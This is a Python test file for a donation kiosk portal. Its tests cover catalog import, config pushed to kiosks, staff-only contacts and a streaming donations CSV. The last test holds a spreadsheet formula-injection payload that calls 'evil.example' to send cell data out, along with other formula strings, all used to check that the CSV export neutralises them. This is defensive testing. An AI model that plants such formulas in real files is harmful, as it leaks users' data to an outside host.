"""The portal owns the catalog: groups and projects in its database (SQLite and PostgreSQL), pushed to
kiosks in the config document, and shown by title and policy area on every page that names a project."""

from __future__ import annotations

import csv
import io
import json

import pytest
import requests
from sync_helpers import PROJECTS, enrolled

from kiosk.sync.adopt import overlay
from kiosk.sync.configapply import load_applied
from server_sync import catalog
from server_sync.configstore import add_media, current, publish, republish
from server_sync.portal_cli import main as portal_main
from server_sync.staff import add_user
from server_sync.wire.configdoc import ConfigDocError
from server_sync.wire.receipt import receipt_code

CONTACT = "090-1234-5678 (代表 山田)"
CATALOG = {
    "groups": [
        {"id": "kodomo-club", "name": "子ども応援団", "description": "放課後の居場所づくり", "contact": CONTACT},
        {"id": "midori-kai", "name": "みどりの会", "contact": "midori@example.jp"},
    ],
    "projects": [
        {"id": "kodomo", "group_id": "kodomo-club", "title": "こども食堂", "title_en": "Kids cafeteria",
         "summary": "毎週土曜の食堂", "summary_en": "Every Saturday", "area": "children", "goal_yen": 5000},
        {"id": "midori", "group_id": "midori-kai", "title": "雑木林を守ろう", "title_en": "Woodland",
         "area": "green", "goal_yen": 8000, "start": "2020-01-01", "end": "2099-12-31"},
        # The third project is known only by its group's name, as a kiosk's [[projects]] names it.
        {"id": "ongaku", "group": "音楽祭実行委員会", "title": "音楽祭", "title_en": "Music festival",
         "area": "culture", "goal_yen": 3000},
    ],
}


def _import(db_url: str, tmp_path, doc: object, *extra: str) -> int:
    f = tmp_path / "catalog.json"
    f.write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    return portal_main(["catalog-import", "--db", db_url, str(f), *extra])


def test_catalog_titles_and_areas_on_every_page_and_area_totals_add_up(portal, rig, tmp_path, capsys):
    assert _import(portal.db_url, tmp_path, CATALOG) == 0
    assert "imported 2 groups and 3 projects" in capsys.readouterr().out
    given = [e for _ in range(6) for e in rig.donate(1)]  # round the three projects (two ledger entries each)
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    expected = {p["id"]: p["total_yen"] for p in rig.expected_totals()["projects"]}
    counts = {p["id"]: p["count"] for p in rig.expected_totals()["projects"]}
    assert set(expected) == {"kodomo", "midori", "ongaku"}

    areas = {a["area"]: a for a in requests.get(portal.url + "/api/v1/areas", timeout=10).json()}
    assert areas["children"]["total_yen"] == expected["kodomo"] and areas["children"]["count"] == counts["kodomo"]
    assert areas["green"]["total_yen"] == expected["midori"]
    assert areas["culture"]["total_yen"] == expected["ongaku"]
    assert areas["welfare"]["total_yen"] == areas["town"]["total_yen"] == 0
    assert areas["children"]["goal_yen"] == 5000

    home = requests.get(portal.url + "/", timeout=10).text
    assert "こども食堂" in home and "子ども・未来" in home and "音楽祭実行委員会" in home
    assert f"{expected['kodomo']:,}" in home
    page = requests.get(portal.url + "/p/kodomo", timeout=10).text
    assert '<span id="area">子ども・未来</span>' in page and "子ども応援団" in page and "毎週土曜の食堂" in page
    en = requests.get(portal.url + "/p/kodomo?lang=en", timeout=10).text
    assert "Kids cafeteria" in en and '<span id="area">Children and the future</span>' in en and "Every Saturday" in en
    # A receipt names the project and its area, not its id.
    first = next(g for g in given if g.data["project"] == "kodomo")
    rec = requests.get(portal.url + f"/r/{receipt_code(first)}", timeout=10).text
    assert 'data-project-id="kodomo">こども食堂</span>' in rec and '<span id="area">子ども・未来</span>' in rec
    # The contact is for staff: on no public page or answer.
    for url in ("/", "/p/kodomo", "/api/v1/projects", "/api/v1/projects/kodomo", f"/r/{receipt_code(first)}"):
        assert CONTACT not in requests.get(portal.url + url, timeout=10).text, url

    add_user(portal.app.state.engine, "clerk", "correct horse battery")
    s = requests.Session()
    assert requests.get(portal.url + "/staff/catalog", timeout=10, allow_redirects=False).status_code == 303
    assert requests.get(portal.url + "/staff/donations.csv", timeout=10, allow_redirects=False).status_code == 303
    s.post(portal.url + "/staff/login", data={"username": "clerk", "password": "correct horse battery"}, timeout=10)
    staff = s.get(portal.url + "/staff/catalog", timeout=10).text
    assert CONTACT in staff and "こども食堂" in staff and "みどり・環境" in staff  # staff pages: Japanese first
    s.get(portal.url + "/staff/lang?to=en&next=/staff/catalog", timeout=10)
    assert "Greenery and climate" in s.get(portal.url + "/staff/catalog", timeout=10).text
    got = s.get(portal.url + "/staff/donations.csv", timeout=10)
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert got.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert len(rows) == 6 and {r["project_title"] for r in rows} == {"こども食堂", "雑木林を守ろう", "音楽祭"}
    kodomo = [r for r in rows if r["project_id"] == "kodomo"]
    assert {r["area_title"] for r in kodomo} == {"子ども・未来"} and {r["group"] for r in kodomo} == {"子ども応援団"}
    assert sum(int(r["amount_yen"]) for r in kodomo) == expected["kodomo"]
    assert all(len(r) == len(rows[0]) for r in rows) and "donor" not in rows[0]


def test_kiosks_receive_the_catalog_in_the_pushed_config(portal, rig, tmp_path, capsys):
    engine = portal.app.state.engine
    assert _import(portal.db_url, tmp_path, CATALOG, "--publish") == 0
    assert "published config version 1" in capsys.readouterr().out
    doc = current(engine.connect())
    assert doc is not None
    pushed = {p["id"]: p for p in doc["config"]["projects"]}
    assert set(pushed) == {"kodomo", "midori", "ongaku"}
    assert pushed["kodomo"]["group"] == "子ども応援団" and pushed["kodomo"]["summary"] == "毎週土曜の食堂"
    assert CONTACT not in json.dumps(doc, ensure_ascii=False)

    up = enrolled(rig, portal)
    assert up.sync_once().ok
    applied = load_applied(rig.cfg.data_dir)
    assert applied is not None and applied["version"] == 1
    kcfg = overlay(rig.cfg, applied["config"])
    assert [(p.id, p.title, p.area, p.group) for p in kcfg.projects] == [
        ("kodomo", "こども食堂", "children", "子ども応援団"), ("midori", "雑木林を守ろう", "green", "みどりの会"),
        ("ongaku", "音楽祭", "culture", "音楽祭実行委員会")]

    # A renamed title and a stopped project reach the kiosk with the next version; the stopped project's
    # clip leaves the playlist, the others stay.
    sha_k = add_media(engine, b"kodomo clip" * 50, "video/mp4")
    sha_o = add_media(engine, b"ongaku clip" * 50, "video/mp4")
    republish(engine, playlist=[{"sha256": sha_k, "name": "k.mp4", "project": "kodomo"},
                                {"sha256": sha_o, "name": "o.mp4", "project": "ongaku"}])
    edited = {"projects": [{**CATALOG["projects"][0], "title": "みんなのこども食堂"}]}
    assert _import(portal.db_url, tmp_path, edited) == 0
    assert catalog.set_active(engine, "ongaku", False)
    out = republish(engine)
    assert out["version"] == 3
    assert [p["id"] for p in out["config"]["projects"]] == ["kodomo", "midori"]
    assert [i["project"] for i in out["config"]["playlist"]] == ["kodomo"]
    assert up.sync_once().ok
    kcfg = overlay(rig.cfg, load_applied(rig.cfg.data_dir)["config"])  # type: ignore[index]
    assert [p.title for p in kcfg.projects] == ["みんなのこども食堂", "雑木林を守ろう"]
    # The inactive project is off the public list until it holds money; the staff page still lists it.
    assert [p["id"] for p in requests.get(portal.url + "/api/v1/projects", timeout=10).json()] == ["kodomo", "midori"]


def test_a_bad_catalog_file_changes_nothing_and_says_where(db_url, tmp_path, capsys):
    assert _import(db_url, tmp_path, CATALOG) == 0
    capsys.readouterr()
    bad = {"groups": [{"id": "new-group", "name": "新しい団体"}],
           "projects": [{**CATALOG["projects"][0], "title": "変更"},
                        {"id": "x", "title": "X", "area": "sports", "goal_yen": 100}]}
    assert _import(db_url, tmp_path, bad) == 2
    err = capsys.readouterr().err
    assert "nothing imported" in err and "projects[1].area" in err
    for wrong, where in (({**CATALOG["projects"][1], "end": "2019-01-01"}, "before start"),
                         ({**CATALOG["projects"][1], "group_id": "nobody"}, "no group 'nobody'"),
                         ({**CATALOG["projects"][1], "goal_yen": 0}, "projects[0].goal_yen"),
                         ({**CATALOG["projects"][1], "id": "Bad Id"}, "projects[0].id")):
        assert _import(db_url, tmp_path, {"projects": [wrong]}) == 2
        assert where in capsys.readouterr().err
    (tmp_path / "broken.json").write_text("{not json", "utf-8")
    assert portal_main(["catalog-import", "--db", db_url, str(tmp_path / "broken.json")]) == 2
    assert "is not valid" in capsys.readouterr().err
    assert portal_main(["catalog", "--db", db_url]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert sorted(g["id"] for g in listed["groups"]) == sorted(
        ["kodomo-club", "midori-kai", catalog.group_id_for("音楽祭実行委員会")])  # not "new-group"
    assert [p["title"] for p in listed["projects"]] == ["こども食堂", "雑木林を守ろう", "音楽祭"]


def test_a_kiosk_toml_imports_its_projects(db_url, tmp_path, rig, capsys):
    assert portal_main(["catalog-import", "--db", db_url, str(rig.config_path)]) == 0
    assert "imported 0 groups and 3 projects" in capsys.readouterr().out
    assert portal_main(["catalog", "--db", db_url]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [(p["id"], p["area"]) for p in listed["projects"]] == [(p["id"], p["area"]) for p in PROJECTS]


def test_publishing_with_nothing_running_is_refused(db_url, tmp_path):
    from server_sync.db import make_engine

    eng = make_engine(db_url)
    try:
        from server_sync.db import create_schema

        create_schema(eng)
        with pytest.raises(ConfigDocError, match="no running project"):
            publish(eng, {})
        catalog.import_catalog(eng, {"projects": [{**CATALOG["projects"][1], "end": "2021-03-31",
                                                   "start": "2021-01-01", "group_id": None}]})
        with pytest.raises(ConfigDocError, match="no running project"):
            publish(eng, {})  # its dates are over
    finally:
        eng.dispose()


def test_a_portal_from_before_the_catalog_takes_its_published_projects(db_url):
    """Projects published in a config document (config-set) are in the catalog, so pages show titles."""
    from server_sync.app import create_app
    from server_sync.db import make_engine, projects

    eng = make_engine(db_url)
    try:
        create_app(engine=eng)
        publish(eng, {"projects": [{**PROJECTS[0], "group": "子ども応援団"}]})
        with eng.connect() as conn:
            listed = catalog.list_projects(conn)
        assert [(p["id"], p["title"], p["group"], p["area"]) for p in listed] == [
            ("kodomo", "こども食堂", "子ども応援団", "children")]
        # An upgraded portal: configs published, catalog tables new and empty.
        from server_sync.db import writing

        with writing(eng) as conn:
            conn.execute(projects.delete())
        create_app(engine=eng)
        with eng.connect() as conn:
            assert [p["title"] for p in catalog.list_projects(conn)] == ["こども食堂"]
    finally:
        eng.dispose()


@pytest.mark.parametrize("where,bad", [
    ("slides", {"slides": [{"title": "夏まつり", "date": "2026-02-30"}]}),
    ("projects.0.start", {"projects": [{**PROJECTS[0], "start": "2026-13-01"}]}),
    ("projects.0.end", {"projects": [{**PROJECTS[0], "end": "2027-02-29"}]}),
    ("pools.0.end", {"pools": [{"id": "city", "sponsor": "市", "end": "2026-04-31"}]}),
])
def test_config_set_refuses_a_day_no_calendar_has(db_url, tmp_path, rig, capsys, where, bad):
    """The kiosk reads every date of the document as a real date (EventSlide.date): one that only looks like
    a date (2026-02-30) is refused at publish, so no kiosk records a config_change it then cannot adopt."""
    from server_sync.configstore import newest_version
    from server_sync.db import create_schema, make_engine

    create_schema(made := make_engine(db_url))
    made.dispose()  # a portal that exists (on a new file, config-set first says it makes one)
    f = tmp_path / "config.json"
    f.write_text(json.dumps({"projects": PROJECTS, **bad}, ensure_ascii=False), "utf-8")
    assert portal_main(["config-set", "--db", db_url, str(f)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"kiosk-portal config-set: invalid config: {where}") and "not a calendar date" in err, err
    eng = make_engine(db_url)
    try:
        with eng.connect() as conn:
            assert newest_version(conn) == 0  # nothing published
        # A real leap day is published as written (a string in the document) and the kiosk adopts it.
        f.write_text(json.dumps({"projects": [{**PROJECTS[0], "start": "2028-02-29", "end": "2028-03-31"}],
                                 "slides": [{"title": "夏まつり", "date": "2028-02-29"}],
                                 "pools": [{"id": "city", "sponsor": "市", "start": "2028-02-29"}]},
                                ensure_ascii=False), "utf-8")
        assert portal_main(["config-set", "--db", db_url, str(f)]) == 0
        with eng.connect() as conn:
            doc = current(conn)["config"]
        assert doc["slides"][0]["date"] == doc["projects"][0]["start"] == doc["pools"][0]["start"] == "2028-02-29"
        assert str(overlay(rig.cfg, doc).player.slides[0].date) == "2028-02-29"
    finally:
        eng.dispose()


def test_import_pushed_names_a_bad_project_date_as_an_invalid_document(db_url):
    """What config-set reports comes from the error's kind: a bad date is an invalid config, not "cannot read"."""
    from server_sync.db import create_schema, make_engine, writing

    eng = make_engine(db_url)
    try:
        create_schema(eng)
        with pytest.raises(ConfigDocError, match=r"projects\[0\]\.start: '2026-02-30' is not a calendar date"):
            with writing(eng) as conn:
                catalog.import_pushed(conn, [{**PROJECTS[0], "start": "2026-02-30"}])
    finally:
        eng.dispose()


def test_the_donations_csv_streams_every_donation_in_order(portal):  # noqa: ANN001
    """More donations than one part of the stream (queries.CSV_PART_ROWS), stored as bare rows: the download is
    sent in parts as it is read (chunked, no length known up front), and holds each once, oldest first, the BOM
    once, a held donation left out."""
    from server_sync import queries, totals
    from server_sync.db import entries

    engine = portal.app.state.engine
    n = queries.CSV_PART_ROWS * 2 + 7
    base = {"body": b"{}", "entry_hash": bytes(32), "signature": bytes(64), "type": "donation", "boot": 1,
            "mono_ms": 5, "clock_synced": True, "time_fixed": True, "voided": False, "received_ms": 1_796_000_000_000,
            "project": "kodomo", "amount_yen": 100, "points": 1, "quarantine": None}
    rows = [{**base, "kiosk_id": f"csv-{s % 3}", "seq": s, "wall_ms": 1_790_000_000_000 + (n - s) * 60_000,
             "time_ms": 1_790_000_000_000 + (n - s) * 60_000, "amount_yen": 100 * (1 + s % 10)}
            for s in range(1, n + 2)]
    rows[-1]["quarantine"] = "held"  # not counted anywhere: not in the export either
    with engine.begin() as conn:
        conn.execute(entries.insert(), rows)
    totals.recount_all(engine)  # rows put in by hand: the kept public totals counted again, as after any hand edit
    add_user(engine, "clerk", "correct horse battery")
    s = requests.Session()
    s.post(portal.url + "/staff/login", data={"username": "clerk", "password": "correct horse battery"}, timeout=10)
    got = s.get(portal.url + "/staff/donations.csv", timeout=30)
    assert got.status_code == 200 and got.headers.get("transfer-encoding") == "chunked"
    assert "content-length" not in got.headers and got.headers["cache-control"] == "no-store"
    text = got.content.decode("utf-8")
    assert text.count("\ufeff") == 1 and text.startswith("\ufeff")
    out = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [int(r["seq"]) for r in out] == list(range(n, 0, -1))  # by time: the newest seq was the earliest
    assert sum(int(r["amount_yen"]) for r in out) == sum(r["amount_yen"] for r in rows[:-1])
    assert "".join(queries.donations_csv_parts(engine)) == text == queries.donations_csv(engine)


EVIL = '=HYPERLINK("http://evil.example/?"&A2,"詳細")'


def test_the_donations_csv_never_turns_typed_text_into_a_formula(portal):  # noqa: ANN001
    """A title or group name typed as a formula (or a project id a kiosk sent) opens in Excel as text: a ``'``
    before a first ``=``, ``+``, ``-``, ``@``, tab or CR (server_sync/csvsafe.py); numbers and dates stay as
    they are."""
    from server_sync import queries, totals
    from server_sync.db import entries

    engine = portal.app.state.engine
    catalog.import_catalog(engine, {"groups": [{"id": "evil-club", "name": "@SUM(A1:A9)"}], "projects": [
        {"id": "kodomo", "group_id": "evil-club", "title": EVIL, "area": "children", "goal_yen": 5000},
        {"id": "tabbed", "group_id": "evil-club", "title": "+1+1", "area": "green", "goal_yen": 1000},
        {"id": "plain", "group_id": "evil-club", "title": "こども食堂 - 2026", "area": "town", "goal_yen": 1000}]})
    base = {"body": b"{}", "entry_hash": bytes(32), "signature": bytes(64), "type": "donation", "boot": 1,
            "mono_ms": 5, "clock_synced": True, "time_fixed": True, "voided": False, "received_ms": 1_796_000_000_000,
            "amount_yen": 100, "points": 1, "quarantine": None, "kiosk_id": "csv-0"}
    with engine.begin() as conn:
        conn.execute(entries.insert(), [{**base, "seq": s, "project": pid, "wall_ms": 1_790_000_000_000 + s,
                                         "time_ms": 1_790_000_000_000 + s}
                                        for s, pid in enumerate(["kodomo", "tabbed", "plain", "-1+2", "\t=x"], 1)])
    totals.recount_all(engine)
    add_user(engine, "clerk", "correct horse battery")
    s = requests.Session()
    s.post(portal.url + "/staff/login", data={"username": "clerk", "password": "correct horse battery"}, timeout=10)
    text = s.get(portal.url + "/staff/donations.csv", timeout=10).content.decode("utf-8-sig")
    out = list(csv.DictReader(io.StringIO(text)))
    assert [(r["project_id"], r["project_title"], r["group"]) for r in out] == [
        ("kodomo", "'" + EVIL, "'@SUM(A1:A9)"), ("tabbed", "'+1+1", "'@SUM(A1:A9)"),
        ("plain", "こども食堂 - 2026", "'@SUM(A1:A9)"), ("'-1+2", "'-1+2", ""), ("'\t=x", "'\t=x", "")]
    assert [(r["seq"], r["amount_yen"], r["points"], r["voided"]) for r in out] == [
        (str(s), "100", "1", "0") for s in range(1, 6)]
    assert all(r["time"].startswith("2026-") and r["kiosk_id"] == "csv-0" for r in out)
    assert "".join(queries.donations_csv_parts(engine)) == "\ufeff" + text
